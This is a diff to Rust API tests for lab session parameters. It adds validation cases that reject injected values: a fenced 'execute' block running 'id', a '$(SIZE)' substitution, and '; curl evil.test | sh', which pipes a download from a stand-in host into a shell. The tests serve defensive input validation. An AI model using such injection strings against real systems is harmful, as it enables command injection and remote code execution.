@@ -139,14 +139,13 @@ fn a_parameter_is_set_by_its_name_or_alias_and_reaches_pages_and_environment() {
     run(async |app| {
         add_parameters(app);
         let ada = app.learner("ada").await;
-        let wish = json!({"lab": LAB, "parameters": {"COLOR": "$(SIZE)blue"}});
+        let wish = json!({"lab": LAB, "parameters": {"COLOR": "light blue"}});
         let session: Session = ada.post("/api/v1/sessions", &wish).await.expect(201).json();
         assert!(matches!(session.state, SessionState::Starting { .. }), "{session:?}");
         let page = ada.get(&format!("/api/v1/sessions/{}/pages/{}", session.id, PAGES[0])).await.expect(200);
-        // a value is text: what it looks like is not looked at again
-        assert!(page.body.contains("$(SIZE)blue and $(SIZE)blue-3"), "{}", page.body);
+        assert!(page.body.contains("light blue and light blue-3"), "{}", page.body);
         let kept =
-            r#"select count(*) from sessions where parameters = '{"COLOUR": "$(SIZE)blue", "SIZE": "3"}'"#;
+            r#"select count(*) from sessions where parameters = '{"COLOUR": "light blue", "SIZE": "3"}'"#;
         assert_eq!(app.count(kept).await, 1);
         end(&ada, session.id).await;
     });
@@ -161,6 +160,9 @@ fn a_parameter_that_the_lab_does_not_have_is_the_callers_mistake() {
             (json!({"SHAPE": "round"}), "has no parameter \"SHAPE\"; it has COLOUR, SIZE"),
             (json!({"COLOUR": "x".repeat(5000)}), "at most 4096 bytes"),
             (json!({"COLOUR": "a\u{0}b"}), "at most 4096 bytes"),
+            (json!({"COLOUR": "a\n```execute\nid\n```"}), "on one line"),
+            (json!({"COLOR": "$(SIZE)blue"}), "takes letters, digits, blanks"),
+            (json!({"COLOUR": "; curl evil.test | sh"}), "takes letters, digits, blanks"),
         ] {
             let answer = ada.post("/api/v1/sessions", &json!({"lab": LAB, "parameters": parameters})).await;
             let problem = answer.problem(400, "bad_parameter");
